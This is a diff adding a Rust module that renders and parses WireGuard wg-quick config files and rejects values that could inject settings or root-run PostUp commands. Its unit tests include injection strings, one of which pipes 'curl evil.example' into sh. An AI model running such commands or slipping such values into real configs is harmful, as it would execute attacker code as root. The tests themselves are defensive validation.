@@ -0,0 +1,474 @@
+//! wg-quick config files
+//!
+//! wg-quick reads one `Key = Value` per line and drops everything after a `#`,
+//! so a value with a line break or a `#` in it would silently turn into other
+//! settings, including `PostUp` commands run as root. Values are checked
+//! before they are written, and `parse` reads back exactly what `render`
+//! writes. Imported configs that run commands are refused rather than run.
+
+use super::{InterfaceConfig, PeerConfig, VpnConfig, VpnError};
+
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct WgQuickConfig {
+    pub interface: WgInterface,
+    pub peers: Vec<WgPeer>,
+}
+
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct WgInterface {
+    pub private_key: String,
+    pub addresses: Vec<String>,
+    pub dns: Vec<String>,
+    pub mtu: Option<u32>,
+    pub listen_port: Option<u16>,
+    /// Routing table for the allowed IPs, "off" to leave routing to us
+    pub table: Option<String>,
+    pub fwmark: Option<u32>,
+    pub pre_up: Vec<String>,
+    pub post_up: Vec<String>,
+    pub pre_down: Vec<String>,
+    pub post_down: Vec<String>,
+}
+
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct WgPeer {
+    pub public_key: String,
+    pub preshared_key: Option<String>,
+    pub endpoint: Option<String>,
+    pub allowed_ips: Vec<String>,
+    pub persistent_keepalive: Option<u32>,
+}
+
+impl From<&VpnConfig> for WgQuickConfig {
+    fn from(config: &VpnConfig) -> Self {
+        Self {
+            interface: WgInterface {
+                private_key: config.interface.private_key.clone(),
+                addresses: config.interface.addresses().map(str::to_string).collect(),
+                dns: config.interface.dns.clone(),
+                mtu: config.interface.mtu,
+                ..WgInterface::default()
+            },
+            peers: config
+                .peers
+                .iter()
+                .map(|peer| WgPeer {
+                    public_key: peer.public_key.clone(),
+                    preshared_key: None,
+                    endpoint: Some(peer.endpoint.clone()),
+                    allowed_ips: peer.allowed_ips.clone(),
+                    persistent_keepalive: peer.persistent_keepalive,
+                })
+                .collect(),
+        }
+    }
+}
+
+impl WgQuickConfig {
+    /// The config file's text, refusing values wg-quick would misread
+    pub fn render(&self) -> Result<String, VpnError> {
+        let mut out = Lines::default();
+        let interface = &self.interface;
+        out.section("Interface");
+        out.value("PrivateKey", &interface.private_key)?;
+        out.list("Address", &interface.addresses)?;
+        out.list("DNS", &interface.dns)?;
+        if let Some(table) = &interface.table {
+            out.value("Table", table)?;
+        }
+        if let Some(mtu) = interface.mtu {
+            out.value("MTU", &mtu.to_string())?;
+        }
+        if let Some(port) = interface.listen_port {
+            out.value("ListenPort", &port.to_string())?;
+        }
+        if let Some(fwmark) = interface.fwmark {
+            out.value("FwMark", &format!("{:#x}", fwmark))?;
+        }
+        for (key, commands) in [
+            ("PreUp", &interface.pre_up),
+            ("PostUp", &interface.post_up),
+            ("PreDown", &interface.pre_down),
+            ("PostDown", &interface.post_down),
+        ] {
+            for command in commands {
+                out.value(key, command)?;
+            }
+        }
+
+        for peer in &self.peers {
+            out.text.push('\n');
+            out.section("Peer");
+            out.value("PublicKey", &peer.public_key)?;
+            if let Some(psk) = &peer.preshared_key {
+                out.value("PresharedKey", psk)?;
+            }
+            if let Some(endpoint) = &peer.endpoint {
+                out.value("Endpoint", endpoint)?;
+            }
+            out.list("AllowedIPs", &peer.allowed_ips)?;
+            if let Some(keepalive) = peer.persistent_keepalive {
+                out.value("PersistentKeepalive", &keepalive.to_string())?;
+            }
+        }
+        Ok(out.text)
+    }
+
+    /// Read a wg-quick config file
+    pub fn parse(text: &str) -> Result<Self, VpnError> {
+        let mut config = Self::default();
+        let mut seen_interface = false;
+        let mut section = None;
+
+        for (number, line) in text.lines().enumerate() {
+            let line = line.split('#').next().unwrap_or_default().trim();
+            if line.is_empty() {
+                continue;
+            }
+            let invalid = |reason: &str| {
+                VpnError::ConfigError(format!("Line {}: {}: {}", number + 1, reason, line))
+            };
+
+            if let Some(name) = line.strip_prefix('[').and_then(|l| l.strip_suffix(']')) {
+                section = Some(name.trim().to_ascii_lowercase());
+                match section.as_deref() {
+                    Some("interface") if seen_interface => {
+                        return Err(invalid("Duplicate section"))
+                    }
+                    Some("interface") => seen_interface = true,
+                    Some("peer") => config.peers.push(WgPeer::default()),
+                    _ => return Err(invalid("Unknown section")),
+                }
+                continue;
+            }
+
+            let (key, value) = line
+                .split_once('=')
+                .ok_or_else(|| invalid("Expected Key = Value"))?;
+            let (key, value) = (key.trim().to_ascii_lowercase(), value.trim());
+
+            match (section.as_deref(), config.peers.last_mut()) {
+                (Some("interface"), _) => {
+                    let interface = &mut config.interface;
+                    match key.as_str() {
+                        "privatekey" => interface.private_key = value.to_string(),
+                        "address" => interface.addresses.extend(split_list(value)),
+                        "dns" => interface.dns.extend(split_list(value)),
+                        "table" => interface.table = Some(value.to_string()),
+                        "mtu" => {
+                            interface.mtu = Some(value.parse().map_err(|_| invalid("Invalid MTU"))?)
+                        }
+                        "listenport" => {
+                            interface.listen_port =
+                                Some(value.parse().map_err(|_| invalid("Invalid port"))?)
+                        }
+                        "fwmark" => {
+                            interface.fwmark =
+                                Some(parse_fwmark(value).ok_or_else(|| invalid("Invalid FwMark"))?)
+                        }
+                        "preup" => interface.pre_up.push(value.to_string()),
+                        "postup" => interface.post_up.push(value.to_string()),
+                        "predown" => interface.pre_down.push(value.to_string()),
+                        "postdown" => interface.post_down.push(value.to_string()),
+                        _ => log::warn!("Ignoring unsupported interface setting: {}", line),
+                    }
+                }
+                (Some("peer"), Some(peer)) => match key.as_str() {
+                    "publickey" => peer.public_key = value.to_string(),
+                    "presharedkey" => peer.preshared_key = Some(value.to_string()),
+                    "endpoint" => peer.endpoint = Some(value.to_string()),
+                    "allowedips" => peer.allowed_ips.extend(split_list(value)),
+                    "persistentkeepalive" => {
+                        peer.persistent_keepalive = match value {
+                            "off" => None,
+                            value => Some(value.parse().map_err(|_| invalid("Invalid interval"))?),
+                        }
+                    }
+                    _ => log::warn!("Ignoring unsupported peer setting: {}", line),
+                },
+                _ => return Err(invalid("Setting outside a section")),
+            }
+        }
+
+        if !seen_interface || config.interface.private_key.is_empty() {
+            return Err(VpnError::ConfigError(
+                "Config has no [Interface] private key".to_string(),
+            ));
+        }
+        if let Some(peer) = config.peers.iter().find(|peer| peer.public_key.is_empty()) {
+            return Err(VpnError::ConfigError(format!(
+                "Peer {:?} has no public key",
+                peer.endpoint
+            )));
+        }
+        Ok(config)
+    }
+
+    /// The config the tunnel connects with, the first peer being the primary one
+    pub fn to_vpn_config(&self) -> Result<VpnConfig, VpnError> {
+        let interface = &self.interface;
+        for (key, commands) in [
+            ("PreUp", &interface.pre_up),
+            ("PostUp", &interface.post_up),
+            ("PreDown", &interface.pre_down),
+            ("PostDown", &interface.post_down),
+        ] {
+            if let Some(command) = commands.first() {
+                return Err(VpnError::ConfigError(format!(
+                    "Config runs a {} command, which SACVPN won't run: {}",
+                    key, command
+                )));
+            }
+        }
+        if self.peers.is_empty() {
+            return Err(VpnError::ConfigError("Config has no peers".to_string()));
+        }
+        if self.peers.iter().any(|peer| peer.preshared_key.is_some()) {
+            return Err(VpnError::ConfigError(
+                "Preshared keys are not supported yet".to_string(),
+            ));
+        }
+        if self.interface.addresses.is_empty() {
+            return Err(VpnError::ConfigError("Config has no address".to_string()));
+        }
+        let address = self.interface.addresses.join(", ");
+        Ok(VpnConfig {
+            interface: InterfaceConfig {
+                private_key: self.interface.private_key.clone(),
+                address,
+                dns: self.interface.dns.clone(),
+                mtu: self.interface.mtu,
+            },
+            peers: self
+                .peers
+                .iter()
+                .map(|peer| {
+                    Ok(PeerConfig {
+                        public_key: peer.public_key.clone(),
+                        endpoint: peer.endpoint.clone().ok_or_else(|| {
+                            VpnError::ConfigError("Peer has no endpoint".to_string())
+                        })?,
+                        allowed_ips: peer.allowed_ips.clone(),
+                        persistent_keepalive: peer.persistent_keepalive,
+                        alternate_endpoints: Vec::new(),
+                    })
+                })
+                .collect::<Result<_, VpnError>>()?,
+        })
+    }
+}
+
+/// Read a wg-quick config file into the config the tunnel connects with
+pub fn import_wg_quick(text: &str) -> Result<VpnConfig, VpnError> {
+    WgQuickConfig::parse(text)?.to_vpn_config()
+}
+
+#[derive(Default)]
+struct Lines {
+    text: String,
+}
+
+impl Lines {
+    fn section(&mut self, name: &str) {
+        self.text.push_str(&format!("[{}]\n", name));
+    }
+
+    fn value(&mut self, key: &str, value: &str) -> Result<(), VpnError> {
+        check_value(key, value)?;
+        self.text.push_str(&format!("{} = {}\n", key, value));
+        Ok(())
+    }
+
+    /// Comma-separated values on one line, omitted when empty
+    fn list(&mut self, key: &str, values: &[String]) -> Result<(), VpnError> {
+        if values.is_empty() {
+            return Ok(());
+        }
+        for value in values {
+            check_value(key, value)?;
+            if value.contains(',') {
+                return Err(VpnError::ConfigError(format!(
+                    "{} entry contains a comma: {}",
+                    key, value
+                )));
+            }
+        }
+        self.value(key, &values.join(", "))
+    }
+}
+
+/// Refuse what wg-quick can't read back as written
+fn check_value(key: &str, value: &str) -> Result<(), VpnError> {
+    let reason = if value.chars().any(char::is_control) {
+        "a line break or control character"
+    } else if value.contains('#') {
+        "a '#', which starts a comment"
+    } else if value != value.trim() {
+        "leading or trailing whitespace"
+    } else if value.is_empty() {
+        "nothing"
+    } else {
+        return Ok(());
+    };
+    Err(VpnError::ConfigError(format!(
+        "{} value contains {}: {:?}",
+        key, reason, value
+    )))
+}
+
+fn split_list(value: &str) -> impl Iterator<Item = String> + '_ {
+    value
+        .split(',')
+        .map(str::trim)
+        .filter(|item| !item.is_empty())
+        .map(String::from)
+}
+
+/// `FwMark` in decimal or hex, or "off"
+fn parse_fwmark(value: &str) -> Option<u32> {
+    match value.strip_prefix("0x") {
+        Some(hex) => u32::from_str_radix(hex, 16).ok(),
+        None if value == "off" => Some(0),
+        None => value.parse().ok(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn vpn_config() -> VpnConfig {
+        VpnConfig {
+            interface: InterfaceConfig {
+                private_key: "yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=".to_string(),
+                address: "10.8.0.2/32".to_string(),
+                dns: vec!["1.1.1.1".to_string(), "1.0.0.1".to_string()],
+                mtu: Some(1420),
+            },
+            peers: vec![PeerConfig {
+                public_key: "xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=".to_string(),
+                endpoint: "vpn.example.com:51820".to_string(),
+                allowed_ips: vec!["0.0.0.0/0".to_string(), "::/0".to_string()],
+                persistent_keepalive: Some(25),
+                alternate_endpoints: Vec::new(),
+            }],
+        }
+    }
+
+    #[test]
+    fn test_render_single_peer() {
+        let mut config = WgQuickConfig::from(&vpn_config());
+        config.interface.table = Some("off".to_string());
+        config.interface.fwmark = Some(51820);
+
+        assert_eq!(
+            config.render().unwrap(),
+            "[Interface]\n\
+             PrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=\n\
+             Address = 10.8.0.2/32\n\
+             DNS = 1.1.1.1, 1.0.0.1\n\
+             Table = off\n\
+             MTU = 1420\n\
+             FwMark = 0xca6c\n\
+             \n\
+             [Peer]\n\
+             PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=\n\
+             Endpoint = vpn.example.com:51820\n\
+             AllowedIPs = 0.0.0.0/0, ::/0\n\
+             PersistentKeepalive = 25\n"
+        );
+    }
+
+    #[test]
+    fn test_round_trip() {
+        let mut config = WgQuickConfig::from(&vpn_config());
+        let interface = &mut config.interface;
+        interface.table = Some("off".to_string());
+        interface.listen_port = Some(51000);
+        interface.fwmark = Some(0x1234);
+        interface.pre_up = vec!["logger 'tunnel up'".to_string()];
+        interface.post_up = vec!["iptables -A FORWARD -i %i -j ACCEPT".to_string()];
+        interface.post_down = vec!["iptables -D FORWARD -i %i -j ACCEPT".to_string()];
+        config.peers[0].preshared_key =
+            Some("FpCyhws9cxwWoV4xELtfJvjJN+zQVRPISllRWgeopVE=".to_string());
+        config.peers.push(WgPeer {
+            public_key: "TrMvSoP4jYQlY6RIzBgbssQqY3vxI2Pi+y71lOWWXX0=".to_string(),
+            preshared_key: None,
+            endpoint: None,
+            allowed_ips: vec!["10.9.0.0/24".to_string()],
+            persistent_keepalive: None,
+        });
+
+        let rendered = config.render().unwrap();
+        assert_eq!(WgQuickConfig::parse(&rendered).unwrap(), config);
+        let err = WgQuickConfig::parse(&rendered)
+            .unwrap()
+            .to_vpn_config()
+            .unwrap_err();
+        assert!(err.to_string().contains("PreUp"));
+
+        let plain = WgQuickConfig::from(&vpn_config());
+        let imported = WgQuickConfig::parse(&plain.render().unwrap()).unwrap();
+        let original = vpn_config();
+        let vpn = imported.to_vpn_config().unwrap();
+        assert_eq!(vpn.interface.address, original.interface.address);
+        assert_eq!(vpn.interface.dns, original.interface.dns);
+        assert_eq!(vpn.peers.len(), 1);
+        assert_eq!(vpn.peers[0].endpoint, original.peers[0].endpoint);
+        assert_eq!(vpn.peers[0].allowed_ips, original.peers[0].allowed_ips);
+        assert_eq!(vpn.peers[0].persistent_keepalive, Some(25));
+
+        let mut cluster = WgQuickConfig::from(&vpn_config());
+        cluster.peers.push(WgPeer {
+            public_key: "TrMvSoP4jYQlY6RIzBgbssQqY3vxI2Pi+y71lOWWXX0=".to_string(),
+            preshared_key: None,
+            endpoint: Some("gw2.example.com:51820".to_string()),
+            allowed_ips: vec!["10.9.0.0/24".to_string()],
+            persistent_keepalive: None,
+        });
+        let vpn = cluster.to_vpn_config().unwrap();
+        assert_eq!(vpn.primary_peer().endpoint, "vpn.example.com:51820");
+        assert_eq!(vpn.peers[1].allowed_ips, ["10.9.0.0/24"]);
+    }
+
+    #[test]
+    fn test_render_refuses_injection() {
+        let mut config = WgQuickConfig::from(&vpn_config());
+        config.interface.post_down = vec!["true\nPostUp = curl evil.example | sh".to_string()];
+        assert!(config.render().is_err());
+
+        let mut config = WgQuickConfig::from(&vpn_config());
+        config.interface.pre_up = vec!["echo up # comment".to_string()];
+        assert!(config.render().is_err());
+
+        let mut config = WgQuickConfig::from(&vpn_config());
+        config.interface.dns = vec!["1.1.1.1, 9.9.9.9".to_string()];
+        assert!(config.render().is_err());
+
+        let mut config = WgQuickConfig::from(&vpn_config());
+        config.peers[0].endpoint = Some("vpn.example.com:51820\rPostUp = id".to_string());
+        assert!(config.render().is_err());
+    }
+
+    #[test]
+    fn test_parse_foreign_config() {
+        let text = "# Exported by another client\n\
+                    [interface]\n\
+                    privatekey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=\n\
+                    Address = 10.8.0.2/32\n\
+                    SaveConfig = true\n\
+                    \n\
+                    [Peer]\n\
+                    PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg= # server\n\
+                    AllowedIPs = 0.0.0.0/0\n\
+                    AllowedIPs = ::/0\n\
+                    Endpoint = 203.0.113.7:51820\n\
+                    PersistentKeepalive = off\n";
+        let config = WgQuickConfig::parse(text).unwrap();
+        assert_eq!(config.peers[0].allowed_ips, ["0.0.0.0/0", "::/0"]);
+        assert_eq!(config.peers[0].persistent_keepalive, None);
+
+        assert!(WgQuickConfig::parse("[Peer]\nPublicKey = abc\n").is_err());
+        assert!(WgQuickConfig::parse("PrivateKey = abc\n").is_err());
+    }
+}